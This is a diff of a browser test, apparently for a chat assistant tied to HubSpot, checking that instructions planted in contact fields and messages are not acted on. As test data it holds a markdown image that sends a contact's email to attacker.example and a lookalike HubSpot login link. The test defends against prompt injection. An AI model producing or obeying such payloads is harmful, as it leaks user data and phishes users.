@@ -80,7 +80,7 @@ test("orders in contact fields and in messages run nothing, load nothing and wri
   assert.equal(await page.evaluate(() => "attacked" in window), false);
   assert.deepEqual(foreign, []);
   assert.equal(await page.locator("libreta-answer a").count(), 0);
-  assert.equal(await page.locator("img, iframe, script:not([src]), object, embed").count(), 0);
+  assert.equal(await page.locator("libreta-chat :is(img, iframe, object, embed):not(.before *), script:not([src])").count(), 0);
   await sees(page, "![status](https://attacker.example/p.png?d=ada@analytical.example)");
   await sees(page, "[HubSpot](https://app.hubspot.com.attacker.example/login)");
   await sees(page, "Nothing has been saved in HubSpot by this answer");
